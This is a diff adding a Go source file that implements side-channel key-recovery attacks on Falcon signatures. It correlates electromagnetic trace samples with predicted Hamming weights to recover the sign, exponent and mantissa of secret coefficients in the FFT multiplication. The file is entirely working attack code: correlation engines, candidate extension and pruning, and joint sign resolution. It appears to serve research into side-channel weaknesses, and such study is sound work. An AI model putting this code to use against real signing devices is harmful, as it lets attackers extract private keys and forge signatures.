@@ -1,0 +1,459 @@
+package core
+
+// The attack primitives are written as "pass jobs": accumulators that
+// consume one observation at a time and report their verdict after a
+// full pass over the campaign. The slice-based APIs (AttackValue,
+// AttackCoefficient) feed jobs from an in-memory []Observation; the
+// streamed path (AttackFFTfFrom) feeds the *same* jobs from a replayable
+// on-disk Source, batching every value's job into shared passes so the
+// whole-key attack touches the corpus a bounded number of times
+// regardless of its size. Because both paths drive identical accumulators
+// in identical observation order, their results are bit-for-bit equal.
+
+import (
+	"math"
+	"math/bits"
+	"sort"
+
+	"falcondown/internal/cpa"
+	"falcondown/internal/emleak"
+	"falcondown/internal/fft"
+	"falcondown/internal/fpr"
+	"falcondown/internal/ntru"
+)
+
+// passJob consumes one observation of a sequential campaign pass.
+type passJob interface {
+	observe(o emleak.Observation)
+}
+
+// feedSlice drives jobs from an in-memory campaign.
+func feedSlice(obs []emleak.Observation, jobs ...passJob) {
+	for _, o := range obs {
+		for _, j := range jobs {
+			j.observe(o)
+		}
+	}
+}
+
+// signJob is the two-hypothesis DEMA on the sign-XOR micro-ops of both
+// windows touching the secret value (see attackSign).
+type signJob struct {
+	coeff   int
+	part    Part
+	engines [2]*cpa.Engine
+	h       []float64
+}
+
+func newSignJob(coeff int, part Part) *signJob {
+	return &signJob{
+		coeff:   coeff,
+		part:    part,
+		engines: [2]*cpa.Engine{cpa.NewEngine(2), cpa.NewEngine(2)},
+		h:       make([]float64, 2),
+	}
+}
+
+func (j *signJob) observe(o emleak.Observation) {
+	for w, slot := range j.part.mulSlots() {
+		sc := knownFor(slot, o.CFFT[j.coeff]).Sign()
+		j.h[0] = float64(sc)
+		j.h[1] = float64(sc ^ 1)
+		t := o.Trace.Samples[emleak.SampleIndex(j.coeff, slot, int(fpr.OpMulSign))]
+		j.engines[w].Update(j.h, t)
+	}
+}
+
+func (j *signJob) result() (sign int, corr float64) {
+	var score [2]float64
+	for _, e := range j.engines {
+		r := e.Corr()
+		score[0] += r[0] / 2
+		score[1] += r[1] / 2
+	}
+	if score[1] > score[0] {
+		return 1, score[1]
+	}
+	return 0, score[0]
+}
+
+// expJob guesses the 11-bit biased exponent against the exponent-adder
+// records of both windows (see attackExponent).
+type expJob struct {
+	coeff   int
+	part    Part
+	engines [2]*cpa.Engine
+	h       []float64
+}
+
+const nExpHyp = 2047 // biased exponents 1..2046 plus index 0 unused
+
+func newExpJob(coeff int, part Part) *expJob {
+	return &expJob{
+		coeff:   coeff,
+		part:    part,
+		engines: [2]*cpa.Engine{cpa.NewEngine(nExpHyp), cpa.NewEngine(nExpHyp)},
+		h:       make([]float64, nExpHyp),
+	}
+}
+
+func (j *expJob) observe(o emleak.Observation) {
+	for w, slot := range j.part.mulSlots() {
+		bec := knownFor(slot, o.CFFT[j.coeff]).BiasedExp()
+		for hyp := 1; hyp < nExpHyp; hyp++ {
+			j.h[hyp] = float64(bits.OnesCount64(uint64(bec + hyp - 1023)))
+		}
+		t := o.Trace.Samples[emleak.SampleIndex(j.coeff, slot, int(fpr.OpMulExp))]
+		j.engines[w].Update(j.h, t)
+	}
+}
+
+// result resolves the winner and its degeneracy family for ring degree n
+// (the magnitude prior depends on n; see the exponent-tie discussion in
+// attackExponent).
+func (j *expJob) result(n int) (biasedExp int, corr float64, alts []int) {
+	r := make([]float64, nExpHyp)
+	for _, e := range j.engines {
+		for i, v := range e.Corr() {
+			r[i] += v / 2
+		}
+	}
+	best := cpa.TopK(r, 1)[0]
+	prior := 1023 + int(math.Round(math.Log2(math.Sqrt(float64(n)/2)*ntru.SigmaFG(n))))
+	// The degeneracy family of the winner: hypotheses offset by multiples
+	// of 8 (the smallest power of two that can exceed a hashed-message
+	// component's exponent spread) whose correlation is statistically
+	// indistinguishable from the winner's. Exact ties match to ~1e-15;
+	// near-ties (support crossing a carry boundary in a handful of traces)
+	// can even beat the truth by noise, so the acceptance band is a small
+	// correlation margin. Equal prior distances break toward correlation.
+	const tieStep = 8
+	const tieMargin = 0.05
+	pick, pickDist := best.Index, abs(best.Index-prior)
+	family := []int{best.Index}
+	for hyp := 1; hyp < nExpHyp; hyp++ {
+		if hyp == best.Index || (hyp-best.Index)%tieStep != 0 || best.Corr-r[hyp] > tieMargin {
+			continue
+		}
+		family = append(family, hyp)
+		if d := abs(hyp - prior); d < pickDist || (d == pickDist && r[hyp] > r[pick]) {
+			pick, pickDist = hyp, d
+		}
+	}
+	alts = make([]int, 0, len(family)-1)
+	for _, hyp := range family {
+		if hyp != pick {
+			alts = append(alts, hyp)
+		}
+	}
+	// Most plausible alternatives first, so the error-correction pass in
+	// RecoverKey repairs quickly.
+	sort.Slice(alts, func(i, j int) bool {
+		return abs(alts[i]-prior) < abs(alts[j]-prior)
+	})
+	return pick, r[pick], alts
+}
+
+// extendTarget is one partial product touching the attacked mantissa
+// half: (micro-op, which known half multiplies it, window).
+type extendTarget struct {
+	op     fpr.Op
+	useHi  bool
+	window int
+}
+
+// extendTargets enumerates the partial products involving the chosen
+// secret half (B×D and A×D for the low half; B×C and A×C for the high
+// half, in both multiplication windows).
+func extendTargets(part Part, high bool) []extendTarget {
+	var targets []extendTarget
+	for _, w := range part.mulSlots() {
+		if high {
+			targets = append(targets,
+				extendTarget{fpr.OpMulLH, false, w}, extendTarget{fpr.OpMulHH, true, w})
+		} else {
+			targets = append(targets,
+				extendTarget{fpr.OpMulLL, false, w}, extendTarget{fpr.OpMulHL, true, w})
+		}
+	}
+	return targets
+}
+
+// extendState runs the extend phase of one mantissa half as a sequence of
+// rounds, each one campaign pass: a windowed correlation attack on the
+// schoolbook partial products, growing the guessed width from the least
+// significant bits and carrying the TopK survivors. The low w bits of a
+// product depend only on the low w bits of the secret half, which is what
+// makes the incremental search sound; the full-width ranking retains the
+// shift-related false positives that the prune phase later removes.
+type extendState struct {
+	coeff int
+	part  Part
+	width int
+	high  bool
+	cfg   Config
+	cands []candidate
+	low   int
+	round *extendRoundJob
+}
+
+func newExtendState(coeff int, part Part, width int, high bool, cfg Config) *extendState {
+	return &extendState{
+		coeff: coeff, part: part, width: width, high: high, cfg: cfg,
+		cands: []candidate{{value: 0}},
+	}
+}
+
+func (s *extendState) done() bool { return s.low >= s.width }
+
+// beginRound expands every candidate by the next window of bits and
+// allocates the round's engines. The returned job must see one full
+// campaign pass before endRound.
+func (s *extendState) beginRound() *extendRoundJob {
+	w := s.cfg.Window
+	if s.low+w > s.width {
+		w = s.width - s.low
+	}
+	k := uint(s.low + w)
+	mask := (uint64(1) << k) - 1
+	next := make([]uint64, 0, len(s.cands)<<w)
+	seen := make(map[uint64]bool, len(s.cands)<<w)
+	for _, c := range s.cands {
+		for v := uint64(0); v < 1<<w; v++ {
+			nv := c.value | v<<s.low
+			if !seen[nv] {
+				seen[nv] = true
+				next = append(next, nv)
+			}
+		}
+	}
+	if s.high && s.low+w == s.width {
+		// The high half carries the implicit leading one.
+		filtered := next[:0]
+		for _, v := range next {
+			if v>>(s.width-1) == 1 {
+				filtered = append(filtered, v)
+			}
+		}
+		next = filtered
+	}
+	targets := extendTargets(s.part, s.high)
+	engines := make([]*cpa.Engine, len(targets))
+	for i := range engines {
+		engines[i] = cpa.NewEngine(len(next))
+	}
+	s.round = &extendRoundJob{
+		coeff:   s.coeff,
+		targets: targets,
+		next:    next,
+		mask:    mask,
+		engines: engines,
+		h:       make([]float64, len(next)),
+	}
+	return s.round
+}
+
+// endRound ranks the expanded candidates and keeps the TopK survivors.
+func (s *extendState) endRound() {
+	j := s.round
+	score := make([]float64, len(j.next))
+	for _, e := range j.engines {
+		for i, r := range e.Corr() {
+			score[i] += r / float64(len(j.engines))
+		}
+	}
+	top := cpa.TopK(score, s.cfg.TopK)
+	s.cands = s.cands[:0]
+	for _, g := range top {
+		s.cands = append(s.cands, candidate{value: j.next[g.Index], corr: g.Corr})
+	}
+	s.low += s.cfg.Window
+	s.round = nil
+}
+
+// extendRoundJob is the per-pass accumulator of one extend round.
+type extendRoundJob struct {
+	coeff   int
+	targets []extendTarget
+	next    []uint64
+	mask    uint64
+	engines []*cpa.Engine
+	h       []float64
+}
+
+func (j *extendRoundJob) observe(o emleak.Observation) {
+	for ti, tg := range j.targets {
+		known := knownFor(tg.window, o.CFFT[j.coeff])
+		a, b := known.MantissaHalves()
+		kn := b
+		if tg.useHi {
+			kn = a
+		}
+		for i, v := range j.next {
+			j.h[i] = float64(bits.OnesCount64((kn * v) & j.mask))
+		}
+		j.engines[ti].Update(j.h, o.Trace.Samples[emleak.SampleIndex(j.coeff, tg.window, int(tg.op))])
+	}
+}
+
+// pruneJob is the prune phase: every surviving (D, C) pair is scored
+// against the intermediate additions mid = lh+hl, sum1 = mid+(ll>>25) and
+// sum2 = hh+(sum1>>25) in both windows, whose values the adversary can
+// predict exactly from the known operand halves. Addition mixes the
+// unrelated operand into each candidate's prediction, so the
+// multiplicative shift ties break and only the true pair correlates at
+// every addition.
+type pruneJob struct {
+	coeff   int
+	part    Part
+	pairs   []mantPair
+	ops     []fpr.Op
+	engines []*cpa.Engine
+	h       [][]float64
+}
+
+type mantPair struct{ d, c uint64 }
+
+func newPruneJob(coeff int, part Part, dCands, cCands []candidate) *pruneJob {
+	pairs := make([]mantPair, 0, len(dCands)*len(cCands))
+	for _, dc := range dCands {
+		for _, cc := range cCands {
+			pairs = append(pairs, mantPair{dc.value, cc.value})
+		}
+	}
+	ops := []fpr.Op{fpr.OpMulMid, fpr.OpMulSum1, fpr.OpMulSum2}
+	nEng := len(ops) * 2
+	j := &pruneJob{
+		coeff:   coeff,
+		part:    part,
+		pairs:   pairs,
+		ops:     ops,
+		engines: make([]*cpa.Engine, nEng),
+		h:       make([][]float64, nEng),
+	}
+	for i := range j.engines {
+		j.engines[i] = cpa.NewEngine(len(pairs))
+		j.h[i] = make([]float64, len(pairs))
+	}
+	return j
+}
+
+func (j *pruneJob) observe(o emleak.Observation) {
+	for wi, slot := range j.part.mulSlots() {
+		known := knownFor(slot, o.CFFT[j.coeff])
+		a, b := known.MantissaHalves()
+		for i, p := range j.pairs {
+			ll := b * p.d
+			hl := a * p.d
+			lh := b * p.c
+			hh := a * p.c
+			mid := lh + hl
+			sum1 := mid + (ll >> loBits)
+			sum2 := hh + (sum1 >> loBits)
+			j.h[wi*len(j.ops)+0][i] = float64(bits.OnesCount64(mid))
+			j.h[wi*len(j.ops)+1][i] = float64(bits.OnesCount64(sum1))
+			j.h[wi*len(j.ops)+2][i] = float64(bits.OnesCount64(sum2))
+		}
+		for oi, op := range j.ops {
+			j.engines[wi*len(j.ops)+oi].Update(j.h[wi*len(j.ops)+oi],
+				o.Trace.Samples[emleak.SampleIndex(j.coeff, slot, int(op))])
+		}
+	}
+}
+
+func (j *pruneJob) result() (d, c uint64, corr, gap float64) {
+	// Combined score: the mean correlation across additions and windows.
+	score := make([]float64, len(j.pairs))
+	for _, e := range j.engines {
+		for i, r := range e.Corr() {
+			score[i] += r / float64(len(j.engines))
+		}
+	}
+	ranked := cpa.Rank(score)
+	best := ranked[0]
+	gap = 1.0
+	if len(ranked) > 1 {
+		gap = best.Corr - ranked[1].Corr
+	}
+	return j.pairs[best.Index].d, j.pairs[best.Index].c, best.Corr, gap
+}
+
+// jointSignJob resolves the two sign bits of a complex coefficient by
+// replaying the complex multiplication under all four sign hypotheses
+// (magnitudes already recovered) and correlating the predicted Hamming
+// weights of every sign-dependent micro-op — the four sign-XOR slots plus
+// the subtraction and addition that combine the four real products. The
+// combine stage depends on both signs through operand alignment and
+// cancellation patterns, so it discriminates even when the known operand
+// signs never vary.
+type jointSignJob struct {
+	coeff         int
+	cands         [4]fft.Cplx
+	sampleOffsets []int
+	eng           *cpa.MatrixEngine
+	rec           fpr.SliceRecorder
+	hs            []float64
+	t             []float64
+}
+
+func newJointSignJob(coeff int, absRe, absIm fpr.FPR) *jointSignJob {
+	j := &jointSignJob{coeff: coeff}
+	// Candidate secrets under the four hypotheses.
+	for i := 0; i < 4; i++ {
+		re := absRe
+		im := absIm
+		if i&1 == 1 {
+			re = fpr.Neg(re)
+		}
+		if i&2 == 2 {
+			im = fpr.Neg(im)
+		}
+		j.cands[i] = fft.Cplx{Re: re, Im: im}
+	}
+	// Sign-dependent samples within the coefficient window: the four
+	// OpMulSign slots and the 12 samples of the two combine additions.
+	for m := 0; m < emleak.MulsPerCoeff; m++ {
+		j.sampleOffsets = append(j.sampleOffsets, m*emleak.OpsPerMul+int(fpr.OpMulSign))
+	}
+	for s := emleak.MulsPerCoeff * emleak.OpsPerMul; s < emleak.SamplesPerCoeff; s++ {
+		j.sampleOffsets = append(j.sampleOffsets, s)
+	}
+	j.eng = cpa.NewMatrixEngine(4, len(j.sampleOffsets))
+	j.hs = make([]float64, 4*len(j.sampleOffsets))
+	j.t = make([]float64, len(j.sampleOffsets))
+	return j
+}
+
+func (j *jointSignJob) observe(o emleak.Observation) {
+	base := j.coeff * emleak.SamplesPerCoeff
+	for i, cand := range j.cands {
+		j.rec.Reset()
+		fft.MulTraced(o.CFFT[j.coeff], cand, &j.rec)
+		if j.rec.Len() != emleak.SamplesPerCoeff {
+			// Degenerate replay (zero operand); predict flat.
+			for k := range j.sampleOffsets {
+				j.hs[i*len(j.sampleOffsets)+k] = 0
+			}
+			continue
+		}
+		for k, off := range j.sampleOffsets {
+			j.hs[i*len(j.sampleOffsets)+k] = float64(bits.OnesCount64(j.rec.Values[off]))
+		}
+	}
+	for k, off := range j.sampleOffsets {
+		j.t[k] = o.Trace.Samples[base+off]
+	}
+	j.eng.Update(j.hs, j.t)
+}
+
+func (j *jointSignJob) result() (sRe, sIm int, corr float64) {
+	// Score: mean correlation across sign-dependent samples.
+	score := j.eng.MeanScore()
+	best, bestScore := 0, math.Inf(-1)
+	for i := 0; i < 4; i++ {
+		if score[i] > bestScore {
+			best, bestScore = i, score[i]
+		}
+	}
+	return best & 1, best >> 1, bestScore
+}
